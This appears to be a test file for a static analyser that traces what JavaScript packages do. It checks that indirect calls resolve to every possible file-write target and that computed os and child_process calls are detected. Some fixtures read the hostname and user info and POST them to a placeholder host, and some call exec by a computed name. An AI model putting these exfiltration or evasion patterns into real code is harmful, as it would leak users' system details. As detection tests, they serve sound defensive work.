import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, flowLines, lineOf } from '../../test/behave.ts';

const HEAD = `const fs = require('fs'), os = require('os'), key = process.argv[2];`;
const BOTH = '/x/a | /x/b';

/** Calls that may mean one of several functions, and what they give. */
const GIVEN: Readonly<Record<string, readonly [string, string]>> = {
  'a table by its key': [`const t = { a: () => '/x/a', b: () => '/x/b' }; fs.writeFileSync(t[key](), '')`, BOTH],
  'a method of what a table has under a key': [
    `const t = { a: { at: () => '/x/a' }, b: { at: () => '/x/b' } }; fs.writeFileSync(t[key].at(), '')`,
    BOTH,
  ],
  'the same, taken out of it': [
    `const t = { a: { at: () => '/x/a' }, b: { at: () => '/x/b' } }; const { at } = t[key]; fs.writeFileSync(at(), '')`,
    BOTH,
  ],
  'the same, or the first': [
    `const t = { a: { at: () => '/x/a' }, b: { at: () => '/x/b' } }; const o = t[key] ?? t.a; fs.writeFileSync(o.at(), '')`,
    BOTH,
  ],
  'what it is called with': [
    `const t = { a: { at: n => '/x/' + n }, b: { at: n => '/y/' + n } }; const o = t[key]; fs.writeFileSync(o.at('q'), '')`,
    '/x/q | /y/q',
  ],
  'a map': [`const t = new Map([['a', () => '/x/a'], ['b', () => '/x/b']]); fs.writeFileSync(t.get(key)(), '')`, BOTH],
  'a condition': [`const at = key ? () => '/x/a' : () => '/x/b'; fs.writeFileSync(at(), '')`, BOTH],
  'a condition, one of which decodes': [`const a = () => atob('L3gvYQ=='), b = () => '/x/b'; fs.writeFileSync((key ? a : b)(), '')`, BOTH],
  'a table of more than are looked at': [
    `const t = { ${Array.from({ length: 9 }, (_, at) => `f${at}: () => '/x/${at}'`).join(', ')} }; fs.writeFileSync(t[key](), '')`,
    `${Array.from({ length: 8 }, (_, at) => `/x/${at}`).join(' | ')} | *`,
  ],
  'objects of two classes': [
    `class A { at() { return '/x/a' } } class B { at() { return '/x/b' } } const o = key ? new A() : new B(); fs.writeFileSync(o.at(), '')`,
    BOTH,
  ],
  'what heirs of a class have': [
    `class Base { go() { fs.writeFileSync(this.at(), '') } } class A extends Base { at() { return '/x/a' } } class B extends Base { at() { return '/x/b' } } new A().go(); new B().go()`,
    BOTH,
  ],
  'what a step is handed by its name': [
    `const at = { file: () => '/x/a', folder: () => '/x/b' }; const steps = { file(make) { fs.writeFileSync(make(), '') } };
      for (const [name, step] of Object.entries(steps)) { const part = at[name]; if (part) step(part) }`,
    BOTH,
  ],
  'what generators of a table go on with': [
    `const t = { a: ({ to }) => [{ at: to }], b: ({ home }) => ['a', 'b'].map(n => ({ at: home + n })) };
      function* each(to) { yield* t[key]({ to, home: '/x/' }) } exports.go = to => { for (const { at } of each(to)) fs.writeFileSync(at, '') }; exports.go('/y')`,
    '/y | /x/a | /x/b',
  ],
};

function written(code: string, files: Readonly<Record<string, string>> = {}): string | undefined {
  return behaviourOf({ 'index.js': HEAD + code, ...files }).effects.find(({ kind }) => kind === 'writes file')?.target;
}

describe('a call that may mean several functions gives what each of them gives', () => {
  for (const [name, [code, target]] of Object.entries(GIVEN)) it(`of ${name}`, () => assert.equal(written(code), target));

  it('of a table of another file', () => {
    const files = { 'at.js': `module.exports = { a: { at: () => '/x/a' }, b: { at: () => '/x/b' } };` };
    assert.equal(written(`const t = require('./at'); fs.writeFileSync(t[key].at(), '')`, files), BOTH);
  });

  it('of a table of another file, by a name that is handed on', () => {
    const files = { 'at.js': `module.exports = { linux: { file: () => '/x/a' }, darwin: { file: () => '/x/b' } };` };
    const code = `const t = require('./at'); const steps = { file(make) { fs.writeFileSync(make(), '') } };
      exports.go = () => { for (const [name, step] of Object.entries(steps)) { const part = t[process.platform]?.[name]; if (part) step(part) } };`;
    assert.equal(written(code, files), BOTH);
  });
});

describe('a function of Node whose name is one of several', () => {
  const SENDS = ['os.hostname → fetch as content', 'os.userInfo → fetch as content'];
  const cases: Readonly<Record<string, string>> = {
    'of a list': `const said = ['hostname', 'userInfo'].map(name => os[name]());`,
    'of the rows of a list': `const said = [['hostname', v => v], ['userInfo', v => v]].map(([name, of]) => of(os[name]()));`,
    'of a table': `const said = Object.entries({ hostname: v => v, userInfo: v => v }).map(([name, of]) => of(os[name]()));`,
    'of a loop': `const said = []; for (const name of ['hostname', 'userInfo']) said.push(os[name]());`,
  };
  for (const [name, code] of Object.entries(cases))
    it(`is each of them, ${name}`, () => {
      const told = flowLines({ 'index.js': `${HEAD} ${code} fetch('https://a.invalid', { method: 'POST', body: said.join() })` });
      for (const flow of SENDS) assert.ok(told.includes(flow), told.join('\n'));
    });
  it('is none where anybody may name it', () => {
    const { effects } = behaviourOf({ 'index.js': `${HEAD} exports.ask = name => os[name]();` });
    assert.deepEqual(effects.map(lineOf), []);
  });

  it('of what two callers draw, each from a table of its own', () => {
    const code = `const run = step => step(); const A = { x() {} }, B = { y() { fetch('https://b.invalid') } }; run(A[key]); run(B[process.argv[3]])`;
    assert.deepEqual(behaviourOf({ 'index.js': HEAD + code }).effects.find(({ kind }) => kind === 'connects')?.triggers, ['import']);
  });

  for (const [name, which] of [
    ['beside one that nothing has', `key ? 'no-such' : 'exec'`],
    ['among many', `['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'exec', 'i'][key]`],
  ] as const)
    it(`of Node, by a name ${name}`, () => {
      const { effects } = behaviourOf({ 'index.js': `${HEAD} require('child_process')[${which}]('marker')` });
      assert.deepEqual(
        effects.filter(({ kind }) => kind === 'spawns').map(({ target }) => target),
        ['marker'],
      );
    });
});
